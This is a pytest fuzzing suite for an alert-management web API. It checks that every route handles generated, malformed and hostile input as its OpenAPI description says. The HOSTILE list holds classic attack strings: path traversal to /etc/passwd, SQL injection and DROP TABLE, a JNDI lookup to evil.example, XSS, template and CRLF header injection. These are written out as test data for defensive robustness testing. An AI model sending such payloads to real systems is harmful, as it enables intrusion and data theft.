"""Every route under made-up requests: valid by the API's description, invalid, and plainly hostile.

No answer is an error of ours, each code is documented, and each body is what the description says.
`tests/api/test_api_walker.py` asks whether callers are kept apart; here everybody may all.
"""

import copy
import json
import os
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
import schemathesis
from fastapi import FastAPI
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis.errors import Unsatisfiable
from schemathesis import Case, GenerationMode
from schemathesis.checks import CheckFunction, not_a_server_error
from schemathesis.core.failures import Failure, FailureGroup
from schemathesis.core.result import Ok
from schemathesis.specs.openapi import checks
from tests.api.alerting import an_alert, fill
from tests.api.people import Site, site
from tests.api.test_api_walker import PARAMETER, Walked, example, walked
from tests.postgres.fixtures import BOTH

from foreseen.control.scopes import Role, Scope

Serve = Callable[[FastAPI], AbstractContextManager[httpx.Client]]
ENDLESS = {"/api/v1/stream"}
NO_POOL = {("POST", "/api/v1/hunts")}
"""Routes of a part that this server lacks: they answer 503."""

CHECKS: list[CheckFunction] = [
    not_a_server_error,
    checks.status_code_conformance,
    checks.content_type_conformance,
    checks.response_headers_conformance,
    checks.response_schema_conformance,
    checks.negative_data_rejection,
    checks.missing_required_header,
    checks.unsupported_method,
    checks.allow_header_conformance,
]
MANY = int(os.environ.get("FORESEEN_FUZZ", "12"))
"""Requests to each route and mode; `make fuzz` sends more."""
KINDS = BOTH if "FORESEEN_FUZZ" in os.environ else BOTH[:1]
"""Control databases behind many requests; a few go to every kind in each run of all."""
LONGEST_QUERY = 60_000
"""Bytes; the client sends little more."""
HOSTILE = [
    "\x00",
    "%00",
    "../../etc/passwd",
    "..%2f..%2f",
    "' OR 1=1 --",
    '"; DROP TABLE alert; --',
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "=1+1",
    "\u202e\u2066",
    "\ufeff",
    "\ud7ff\ue000\U0010ffff",
    "\r\nSet-Cookie: a=b",
    "9" * 400,
    "-1",
    str(2**63),
    "1e309",
    "NaN",
    "null",
    "[]",
    "x" * 5_000,
]


@pytest.fixture
def place(tmp_path: Path) -> Iterator[Site]:
    with site(tmp_path) as made:
        fill(made.engine, *(an_alert(f"m{n}", n) for n in range(5)))
        yield made


def headers_for(place: Site, route: Walked) -> dict[str, str]:
    """Those of somebody who may call it."""
    if route.login:
        return place.login("root")
    return place.plain_token(*([Scope.INGEST] if route.scope is Scope.INGEST else _ALL))


_ALL = [scope for scope in Scope if scope is not Scope.INGEST]


@pytest.fixture
def client(place: Site, serve: Serve) -> Iterator[httpx.Client]:
    place.person("root", Role.ADMIN)
    with serve(place.app) as made:
        yield made


@pytest.mark.long
def test_a_few_requests_to_every_route_are_answered_as_described(
    place: Site, client: httpx.Client
) -> None:
    assert faults(place, client, examples=4, derandomize=True) == []


@pytest.mark.slow
@pytest.mark.parametrize("kind", KINDS, indirect=True)
def test_many_requests_to_every_route_are_answered_as_described(
    place: Site, client: httpx.Client
) -> None:
    assert faults(place, client, examples=MANY) == []


def faults(place: Site, client: httpx.Client, examples: int, **more: Any) -> list[str]:  # noqa: ANN401
    """What answers are not as the API's description says."""
    schema = schemathesis.openapi.from_dict(_without_security(place.app.openapi()))
    routes = {(each.method, PARAMETER.sub(r"{\1}", each.path)): each for each in walked(place.app)}
    bounds = settings(
        max_examples=examples,
        deadline=None,
        database=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
        **more,
    )
    found: list[str] = []
    for result in schema.get_all_operations():
        assert isinstance(result, Ok), result.err()
        operation = result.ok()
        if operation.path not in ENDLESS:
            route = routes[operation.method.upper(), operation.path]
            asking = Asking(str(client.base_url), headers_for(place, route), route)
            for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE):
                ask = bounds(given(operation.as_strategy(mode))(asking.ask))
                with suppress(Unsatisfiable):  # what takes nothing cannot be asked wrongly
                    found += asking.faults_of(ask)
    return found


def _without_security(described: dict[str, Any]) -> dict[str, Any]:
    """Every request has what its caller proves to be by: leaving it out is the walker's."""
    found = copy.deepcopy(described)
    for path in found["paths"].values():
        for operation in path.values():
            operation.pop("security", None)
    return found


@dataclass
class Asking:
    """Asks one route as a caller who may."""

    url: str
    headers: dict[str, str]
    route: Walked

    def ask(self, case: Case[Any]) -> None:
        """Ask once, and look at the answer."""
        answer = case.call(base_url=self.url, headers=self.headers, timeout=30)
        unready = answer.status_code == 503 and (self.route.method, self.route.path) in NO_POOL
        case.validate_response(answer, checks=CHECKS[unready:])

    def faults_of(self, ask: Callable[[], None]) -> Iterator[str]:
        """What was wrong with an answer, if one was."""
        try:
            ask()
        except FailureGroup as group:
            yield f"{self.route.method} {self.route.path}: {list(group.exceptions)}"
        except Failure as failure:
            yield f"{self.route.method} {self.route.path}: {failure}"


@pytest.mark.long
def test_hostile_texts_in_paths_and_queries_break_nothing(
    place: Site, client: httpx.Client
) -> None:
    wrong: list[str] = []
    for route in walked(place.app):
        if route.path in ENDLESS:
            continue
        headers = headers_for(place, route)
        names = [each["name"] for each in _parameters(place, route, "query")]
        body = example(place.app, route)
        for text in HOSTILE:
            path = route.at(*[quote(text, safe="")] * route.parameters)
            answer = client.request(
                route.method,
                path,
                params=dict.fromkeys(names[: LONGEST_QUERY // len(quote(text, safe=""))], text),
                headers=headers,
                json=body,
            )
            wrong += _fault(route, answer, text)
    assert wrong == []


@pytest.mark.long
def test_hostile_bodies_break_nothing(place: Site, client: httpx.Client) -> None:
    bodies = [
        b"",
        b"\x00",
        b"{",
        b"null",
        b"[]",
        b'"text"',
        b"[" * 20_000,
        b'{"a":' * 20_000,
        b'{"text": "\\ud800"}',
        b'{"text": "\\u0000", "name": "\\u0000", "assignee": "\\u0000"}',
        b'{"limit": 1e400, "seconds": NaN}',
        b'{"uids": {"a": 1}, "filter": []}',
        b"\xff\xfe{}",
        b"a=b&c=d",
    ]
    wrong: list[str] = []
    for route in walked(place.app):
        if route.method not in {"POST", "PUT", "PATCH"}:
            continue
        headers = headers_for(place, route)
        for body in bodies:
            for kind in ("application/json", "application/x-www-form-urlencoded", "text/xml"):
                answer = client.request(
                    route.method,
                    route.at(*["1"] * route.parameters),
                    content=body,
                    headers={**headers, "Content-Type": kind},
                )
                wrong += _fault(route, answer, f"{kind} {body[:60]!r}")
    assert wrong == []


def test_json_that_is_valid_and_hostile_is_stored_and_shown_or_refused(
    place: Site, client: httpx.Client
) -> None:
    headers = headers_for(place, next(each for each in walked(place.app) if each.scope))
    wrong: list[str] = []
    for text in [*HOSTILE, "\ud800"]:
        body = {"uids": ["m0"], "assignee": text, "text": text}
        escaped = _escaped(body)
        for method, path, sent in (
            ("POST", "/api/v1/alerts/m0/comments", _escaped({"text": text})),
            ("PATCH", "/api/v1/alerts/m0", _escaped({"assignee": text, "text": text})),
            ("POST", "/api/v1/alerts/bulk", escaped),
            ("POST", "/api/v1/alerts/bulk", _escaped({"filter": {"q": text}, "assignee": "x"})),
            ("GET", "/api/v1/alerts", b""),
            ("GET", "/api/v1/alerts/m0", b""),
            ("GET", "/api/v1/alerts/m0/history?limit=200", b""),
            ("GET", "/api/v1/alerts/export", b""),
            ("GET", "/api/v1/alerts/bulk", b""),
            ("GET", "/api/v1/audit-log", b""),
        ):
            answer = client.request(
                method, path, content=sent, headers={**headers, "Content-Type": "application/json"}
            )
            if answer.status_code not in {200, 201, 422}:
                wrong.append(f"{method} {path} {text[:40]!r}: {answer.status_code}")
    assert wrong == []


def _escaped(value: object) -> bytes:
    return json.dumps(value).encode()


def _fault(route: Walked, answer: httpx.Response, what: str) -> Iterator[str]:
    if answer.status_code >= 500 and (route.method, route.path) not in NO_POOL:
        yield f"{route.method} {route.path} {what[:60]!r}: {answer.status_code} {answer.text[:200]}"
    elif answer.status_code >= 400:
        kind = answer.headers.get("content-type")
        if kind != "application/problem+json":
            yield f"{route.method} {route.path} {what[:60]!r}: {answer.status_code} is {kind}"


def _parameters(place: Site, route: Walked, where: str) -> list[dict[str, Any]]:
    path = PARAMETER.sub(r"{\1}", route.path)
    described = place.app.openapi()["paths"][path][route.method.lower()]
    return [each for each in described.get("parameters", []) if each["in"] == where]
